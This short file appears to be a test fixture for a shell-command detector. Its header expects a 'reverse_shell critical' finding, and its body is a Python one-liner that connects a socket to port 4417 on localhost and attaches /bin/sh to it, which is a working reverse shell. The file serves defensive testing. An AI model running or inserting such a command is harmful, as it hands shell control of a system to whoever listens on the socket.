# about: the error stream is elsewhere
# expect: reverse_shell critical
# needs: python3
peer 4417
python3 -c 'import socket,subprocess
s=socket.create_connection(("127.0.0.1",4417))
subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=subprocess.DEVNULL)' || true
done_typing
